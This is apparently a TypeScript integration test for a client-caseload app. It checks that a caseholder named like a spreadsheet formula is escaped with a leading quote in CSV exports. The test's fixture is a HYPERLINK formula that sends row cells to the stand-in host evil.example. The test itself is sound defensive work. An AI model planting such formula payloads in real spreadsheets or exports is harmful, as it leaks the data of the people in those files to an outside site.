import { randomUUID } from 'node:crypto';
import { todayInAmsterdam } from '@klantmonitor/shared/domain';
import { call, makeWorld, newColleague, World } from '../support/http';

/** The review's caseholder name (#22): a formula that would send the row's cells to another site. */
const EVIL = '=HYPERLINK("https://evil.example/?d="&A2&B2,"Sanne")';

/**
 * CSV formula injection (OWASP): every cell a spreadsheet would take for a formula is written with a
 * leading quote. The caseload CSV here (a name any org admin can give a colleague); the analytics CSV
 * and the import template CSV in their writers' unit tests (export-files.spec.ts, import-template.spec.ts),
 * all through one function (api/core safeCsv).
 */
describe('CSV exports and formula injection', () => {
  let world: World;
  beforeAll(async () => {
    world = await makeWorld();
  });

  it('writes a caseholder named like a formula with a leading quote in the caseload CSV; the XLSX keeps it as text', async () => {
    const colleague = await newColleague(world, `evil-${randomUUID().slice(0, 8)}@example.nl`, EVIL);
    const ref = `CSV-${randomUUID().slice(0, 8)}`;
    const made = await call('POST', '/api/v1/clients', {
      token: colleague.token,
      body: { clientRef: ref, municipality: 'GM0344', firstContact: todayInAmsterdam() },
    });
    expect(made.status).toBe(201);
    const csv = await call('GET', `/api/v1/clients?q=${ref}&format=csv`, { token: world.tokens.counselor });
    expect(csv.status).toBe(200);
    const [header, row] = csv.text.replace(/^\uFEFF/, '').split('\r\n');
    const at = header.split(';').indexOf('Casehouder');
    expect(at).toBeGreaterThan(0);
    // Before: the cell began with "=HYPERLINK(" and Excel ran it. csv-stringify quotes the cell (it
    // holds quotes and a comma), so the quote sign is the first character inside the quotes.
    expect(row).toContain(`"'=HYPERLINK(""https://evil.example/?d=""&A2&B2,""Sanne"")"`);
    expect(row.startsWith(`${ref};`)).toBe(true);
    expect(row).not.toMatch(/(^|;)"?=HYPERLINK/);
  });
});
